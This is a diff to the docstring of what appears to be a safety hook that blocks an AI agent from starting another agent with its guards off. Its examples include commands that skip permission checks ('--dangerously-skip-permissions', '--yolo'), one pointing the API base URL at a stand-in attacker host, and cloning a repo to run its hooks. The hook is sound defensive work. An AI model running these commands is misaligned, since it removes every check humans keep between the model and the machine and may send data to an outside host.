@@ -1,12 +1,17 @@
 """Another agent, started by an agent: with its guards off, or where nobody has read what it loads.
 
 Caught: ``claude --dangerously-skip-permissions -p …``, ``codex exec --yolo``, ``gemini --yolo``, ``q chat
---trust-all-tools``, ``ANTHROPIC_BASE_URL=http://evil.example claude`` (deny); ``git clone URL x && cd x
-&& claude`` (ask: the clone's own hooks would run). Quiet: ``claude -p 'summarise README' --allowedTools
-Read``, ``claude --version``, ``codex login status``, ``gemini --help``.
+--trust-all-tools``, ``ANTHROPIC_BASE_URL=http://evil.example claude`` (deny); ``git clone URL x && cd x &&
+claude`` (ask: the clone's own hooks would run).
+Quiet: ``claude -p 'summarise README' --allowedTools Read``, ``claude --version``, ``codex login status``,
+``gemini --help``.
 
-What is lost: every check between a model and this machine. Instead: the same without the switch, with the
-tools it needs listed (``--allowedTools Read``). Facts: each agent's ``--help`` and hook documentation.
+Lost: every check between a model and this machine.
+Back: Nothing to bring back while it has not run; what it did then is judged by nobody.
+Instead: the same without the switch, with the tools it needs listed (``claude -p 'summarise README'
+--allowedTools Read``).
+
+Facts: each agent's ``--help`` and hook documentation.
 """
 
 from __future__ import annotations
